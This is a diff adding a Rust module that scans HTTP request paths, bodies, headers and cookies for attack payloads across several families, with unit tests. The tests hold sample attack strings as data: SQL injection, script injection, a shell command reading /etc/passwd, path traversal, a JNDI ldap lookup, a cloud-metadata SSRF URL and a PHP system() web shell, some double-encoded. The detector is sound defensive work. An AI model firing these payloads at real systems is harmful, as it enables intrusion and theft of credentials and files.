@@ -1,0 +1,231 @@
+//! The request-level scan: locations split into values, each value decoded, prefiltered and run
+//! through the detectors, the results summed into [`PayloadFindings`].
+//!
+//! Input: a [`PayloadInput`] and a reusable [`Scratch`]. Output: [`PayloadFindings`]. Per value
+//! the work is: one level of decoding where the location calls for it, a byte-class pass, and,
+//! only when the value holds a character some detector needs, a normalization pass and the
+//! detectors; when it also holds an encoding, the same again on its deep decoding. In the steady
+//! state nothing is allocated (libinjection's keyword lookups aside, see [`sqli`](super::sqli)).
+
+use super::classes::{self, Mask};
+use super::split::{self, Decode, Scope, SplitBuffers};
+use super::{code, decode, shell, sqli, ssrf, template, traversal, xss, Family, Hits, Location, PayloadFindings};
+
+/// What the JS layer hands over for a request. Every field may be empty.
+#[derive(Clone, Copy, Debug, Default)]
+pub struct PayloadInput<'a> {
+    /// The request target as sent: path and optional `?query`, percent-encoded.
+    pub path: &'a str,
+    /// Body fields joined with `\x1f`: string values (or keys) of a parsed body, or one raw body.
+    pub body: &'a str,
+    /// Values of headers an app may echo or log (referer, user-agent, x-forwarded-*, custom
+    /// x-*), joined with `\x1f`.
+    pub headers: &'a str,
+    /// Raw Cookie header value(s), joined with `\x1f` when there are several.
+    pub cookies: &'a str,
+}
+
+/// Buffers reused across scans, so that a scan does not allocate once they have grown.
+#[derive(Debug, Default)]
+pub struct Scratch {
+    split: SplitBuffers,
+    values: ValueBuffers,
+}
+
+#[derive(Debug, Default)]
+struct ValueBuffers {
+    level1: Vec<u8>,
+    deep: Vec<u8>,
+    tmp: Vec<u8>,
+    detect: DetectBuffers,
+}
+
+#[derive(Debug, Default)]
+struct DetectBuffers {
+    norm: Vec<u8>,
+    aux: Vec<u8>,
+    /// Bytes libinjection may still see in this request.
+    budget: usize,
+}
+
+/// What the detectors found in one text.
+#[derive(Clone, Copy, Debug, Default)]
+struct Found {
+    hits: Hits,
+    /// Families confirmed only through a detector's own de-obfuscation (SQL comments, nested
+    /// log4j lookups).
+    deobfuscated: u16,
+    truncated: bool,
+}
+
+/// Classes without which no detector can confirm anything.
+const TRIGGERS: Mask = !(classes::DOT | classes::DASH | classes::COMMA | classes::AT | classes::PLUS | classes::QUESTION | classes::HIGH);
+
+/// Whether a value is worth the detectors: it holds a trigger class, or bytes the deep decoder
+/// turns into ASCII (full-width forms, overlong UTF-8).
+fn worth_it(text: &[u8], mask: Mask) -> bool {
+    mask & TRIGGERS != 0 || (mask & classes::HIGH != 0 && memchr::memchr3(0xEF, 0xC0, 0xC1, text).is_some())
+}
+
+impl DetectBuffers {
+    fn run(&mut self, text: &[u8], mask: Mask, scope: Scope) -> Found {
+        let mut f = Found::default();
+        decode::normalize(text, &mut self.norm);
+        let norm = self.norm.as_slice();
+        let mut mark = |family: Family, (confirmed, suspicious): (bool, bool)| {
+            if confirmed {
+                f.hits.confirm(family);
+            } else if suspicious {
+                f.hits.suspect(family);
+            }
+        };
+        mark(Family::Traversal, traversal::detect(norm, mask, &mut self.aux));
+        if scope == Scope::TraversalOnly {
+            return f;
+        }
+        let v = sqli::detect(text, mask, &mut self.budget, &mut self.aux);
+        mark(Family::Sqli, (v.confirmed, v.suspicious));
+        f.truncated = v.truncated;
+        if v.obfuscated {
+            f.deobfuscated |= 1 << Family::Sqli as u16;
+        }
+        mark(Family::Xss, xss::detect(norm, mask));
+        mark(Family::Command, shell::detect(norm, mask));
+        mark(Family::Template, template::detect(norm, mask));
+        let (c, s, resolved) = template::detect_jndi(norm, mask, &mut self.aux);
+        mark(Family::Jndi, (c, s));
+        if c && resolved {
+            f.deobfuscated |= 1 << Family::Jndi as u16;
+        }
+        mark(Family::Ssrf, ssrf::detect(norm, mask));
+        mark(Family::Code, code::detect(norm, mask));
+        f
+    }
+}
+
+impl ValueBuffers {
+    fn value(&mut self, raw: &[u8], how: Decode, location: Location, scope: Scope, out: &mut PayloadFindings) {
+        out.values = out.values.saturating_add(1);
+        let ValueBuffers { level1, deep, tmp, detect } = self;
+        let plus = how == Decode::PercentPlus;
+        let text: &[u8] = if how != Decode::None && raw.iter().any(|&b| b == b'%' || (plus && b == b'+')) {
+            decode::percent(raw, plus, level1);
+            level1
+        } else {
+            raw
+        };
+        let mask = classes::mask(text);
+        if !worth_it(text, mask) {
+            return;
+        }
+        let mut found = detect.run(text, mask, scope);
+        let mut obfuscated = found.deobfuscated & found.hits.confirmed != 0;
+        if mask & classes::ENCODED != 0 && decode::deep(text, deep, tmp) > 0 {
+            let again = detect.run(deep, classes::mask(deep), scope);
+            obfuscated |= again.hits.confirmed & !found.hits.confirmed != 0;
+            found.hits.confirmed |= again.hits.confirmed;
+            found.hits.suspicious |= again.hits.suspicious;
+            found.truncated |= again.truncated;
+        }
+        out.obfuscated |= obfuscated;
+        out.truncated |= found.truncated;
+        for &family in Family::ALL {
+            let i = family.index();
+            if found.hits.has(family) {
+                out.confirmed[i] = out.confirmed[i].saturating_add(1);
+                out.locations[i] |= location.bit();
+            } else if found.hits.suspicious & (1 << family as u16) != 0 {
+                out.suspicious[i] = out.suspicious[i].saturating_add(1);
+            }
+        }
+    }
+}
+
+/// Scans every location of a request.
+pub fn scan(input: &PayloadInput<'_>, scratch: &mut Scratch) -> PayloadFindings {
+    let mut out = PayloadFindings::default();
+    let Scratch { split, values } = scratch;
+    values.detect.budget = sqli::BUDGET;
+    let mut sink = |v: &[u8], how: Decode, location: Location, scope: Scope| values.value(v, how, location, scope, &mut out);
+    split::path(input.path.as_bytes(), &mut sink);
+    split::body(input.body.as_bytes(), split, &mut sink);
+    split::headers(input.headers.as_bytes(), &mut sink);
+    split::cookies(input.cookies.as_bytes(), &mut sink);
+    out
+}
+
+/// Scans one value as the app receives it in `location` (`how`: the decoding the app applies),
+/// with a fresh libinjection budget; for measurements and tests.
+pub fn scan_value(value: &[u8], how: Decode, location: Location, scratch: &mut Scratch) -> PayloadFindings {
+    let mut out = PayloadFindings::default();
+    scratch.values.detect.budget = sqli::BUDGET;
+    scratch.values.value(value, how, location, Scope::All, &mut out);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn query(q: &str) -> PayloadFindings {
+        let path = format!("/search?q={q}");
+        scan(&PayloadInput { path: &path, ..Default::default() }, &mut Scratch::default())
+    }
+
+    #[test]
+    fn one_payload_per_family_is_confirmed_where_it_is() {
+        let cases = [
+            (Family::Sqli, "1%27%20OR%20%271%27%3D%271"),
+            (Family::Xss, "%3Cscript%3Ealert(1)%3C/script%3E"),
+            (Family::Command, "x%3Bcat+/etc/passwd"),
+            (Family::Traversal, "..%2F..%2F..%2Fetc%2Fpasswd"),
+            (Family::Template, "%7B%7B7*7%7D%7D"),
+            (Family::Jndi, "%24%7Bjndi:ldap://x.example/a%7D"),
+            (Family::Ssrf, "http://169.254.169.254/latest/meta-data/"),
+            (Family::Code, "%3C%3Fphp+system(%24_GET%5Bc%5D)%3B"),
+        ];
+        for (family, q) in cases {
+            let f = query(q);
+            assert!(f.confirmed(family) == 1 && f.confirmed_in(family, Location::Query), "{family:?} {q}: {f:?}");
+            assert!(!f.obfuscated, "{q}");
+        }
+    }
+
+    #[test]
+    fn double_encoding_is_found_and_flagged_obfuscated() {
+        let f = query("%253Cscript%253Ealert(1)%253C%252Fscript%253E");
+        assert_eq!(f.confirmed(Family::Xss), 1);
+        assert!(f.obfuscated);
+        let f = query("1%2527%2520OR%2520%25271%2527%253D%25271");
+        assert_eq!(f.confirmed(Family::Sqli), 1);
+        assert!(f.obfuscated);
+    }
+
+    #[test]
+    fn benign_requests_find_nothing() {
+        let input = PayloadInput {
+            path: "/products/shoes/42?color=dark+blue&size=10&ref=https%3A%2F%2Fshop.example%2F",
+            body: "{\"name\":\"Mary O'Brien\",\"email\":\"mary@example.com\",\"note\":\"Leave it at the door; thanks!\"}\x1fselect your size",
+            headers: "https://shop.example/cart\x1fMozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
+            cookies: "sid=abc123; theme=dark; consent=%7B%22ads%22%3Afalse%7D",
+        };
+        let f = scan(&input, &mut Scratch::default());
+        assert!(!f.any_confirmed(), "{f:?}");
+        assert!(f.values > 10);
+    }
+
+    #[test]
+    fn each_location_sets_its_bit() {
+        let input = PayloadInput {
+            path: "/a/<script>alert(1)</script>",
+            body: "{\"q\":\"1' or '1'='1\"}",
+            headers: "${jndi:ldap://x/a}",
+            cookies: "p=..%2F..%2F..%2Fetc%2Fpasswd",
+        };
+        let f = scan(&input, &mut Scratch::default());
+        assert!(f.confirmed_in(Family::Xss, Location::Path), "{f:?}");
+        assert!(f.confirmed_in(Family::Sqli, Location::Body));
+        assert!(f.confirmed_in(Family::Jndi, Location::Header));
+        assert!(f.confirmed_in(Family::Traversal, Location::Cookie));
+    }
+}
